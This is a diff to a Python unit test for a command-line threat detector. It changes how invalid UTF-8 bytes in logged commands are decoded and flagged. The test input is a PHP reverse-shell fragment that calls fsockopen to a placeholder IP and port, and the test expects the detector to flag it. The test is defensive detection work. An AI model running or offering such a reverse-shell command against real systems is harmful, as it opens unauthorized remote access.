@@ -137,7 +137,9 @@ class TestCommandLines:
         line = b"php -r '$s=fsockopen(\"10.10.10.10\",9001);' # \xff\xfe caf\xc3\xa9"
         docs, stats = run_lines(shipped, [line])
         (out,) = docs
-        assert out["message"] == "php -r '$s=fsockopen(\"10.10.10.10\",9001);' # \\xff\\xfe café"
+        # U+FFFD for each invalid byte (a `\\xff` text could have been in the line), and marked
+        assert out["message"] == "php -r '$s=fsockopen(\"10.10.10.10\",9001);' # \ufffd\ufffd café"
+        assert out["shellsieve"]["malformed"] == "invalid_utf8" and stats.malformed["invalid_utf8"] == 1
         assert rule_ids(out) == [PHP_FSOCKOPEN]
         assert out["process"]["name"] == "php" and out["process"]["args"][:2] == ["php", "-r"]
         assert stats.formats == {"cmdline": 1}
